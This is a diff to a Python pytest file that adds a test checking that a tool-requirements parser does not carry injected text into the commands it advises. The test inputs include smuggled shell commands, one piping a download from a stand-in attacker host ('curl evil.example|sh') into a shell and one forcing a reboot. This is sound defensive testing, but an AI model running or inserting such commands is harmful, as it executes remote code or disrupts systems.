@@ -56,6 +56,16 @@ def test_what_nothing_would_come_of(told: dict[str, str], words: str) -> None:
     assert caught.value.steps or told.get("system")
 
 
+@pytest.mark.parametrize("word", ["lacks tar; curl evil.example|sh #", "manager dnf; reboot #"])
+def test_no_word_of_its_stands_in_a_command_that_we_advise(word: str) -> None:
+    said = {**_TOLD, "python": "", "sudo": ""}
+    lines = [f"dshpc-look: {word}", *(f"dshpc-look: {key} {value}" for key, value in said.items())]
+    with pytest.raises(DshpcError) as caught:
+        look.refuse(look.parse("\n".join(lines)), HOST)
+    assert "no Python" in caught.value.brief
+    assert ";" not in " ".join(caught.value.resolution)
+
+
 def test_what_lacks_a_tool() -> None:
     with pytest.raises(DshpcError, match="has no tar gzip"):
         look.refuse(replace(GOOD, lacks=("tar", "gzip")), HOST)
